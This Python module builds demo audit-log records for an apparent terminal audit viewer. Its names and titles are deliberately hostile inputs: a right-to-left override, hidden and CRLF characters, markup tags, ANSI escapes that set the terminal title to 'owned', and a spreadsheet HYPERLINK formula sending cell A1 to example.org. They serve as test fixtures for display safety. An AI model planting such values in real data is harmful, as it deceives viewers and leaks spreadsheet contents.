"""Names and titles that somebody chose to trouble a screen or a spreadsheet: rare in the demo log, never absent."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from auditui.demo import cast
from auditui.demo.events import PAGE, USERS, Episode, Step, Told, change, thing


def _named(name: str) -> Callable[[int, int], Told]:
    return lambda _draw, _step: (
        thing(name, "User"),
        [change("Display name", "", name), change("Active", "", "Yes")],
        [],
    )


def _joined(name: str) -> Callable[[int, int], Told]:
    return lambda draw, _step: (
        thing(cast.GROUPS[draw % len(cast.GROUPS)], "Group"),
        [],
        [thing(name, "User")],
    )


def _archived(title: str) -> Callable[[int, int], Told]:
    return lambda draw, _step: (
        thing(title, "Page"),
        [change("Content status", "current", "archived")],
        [thing(title, "Page"), thing(cast.SPACES[draw % len(cast.SPACES)].name, "Space")],
    )


def _episode(author: cast.Person, summary: str, category: str, tell: Callable[[int, int], Told]) -> Episode:
    return Episode(1, (author,), (Step(summary, category, tell),))


_BACKWARDS: Final = cast.person("Ilse \u202eybsorC\u202c Crosby")

ODDITIES: Final = (
    _episode(cast.SYSTEM, "User created", USERS, _named(_BACKWARDS.name)),
    _episode(
        _BACKWARDS, "Page archived", PAGE, _archived("Minutes\u200b of\r\nthe [bold]works[/bold] council")
    ),
    _episode(cast.SYSTEM, "User added to group", USERS, _joined("\x1b[31mroot\x1b[0m\x1b]0;owned\x07")),
    _episode(
        _BACKWARDS, "Page archived", PAGE, _archived('=HYPERLINK("http://example.org/?c="&A1,"Minutes")')
    ),
)
"""One record each, in the order in which they come round."""
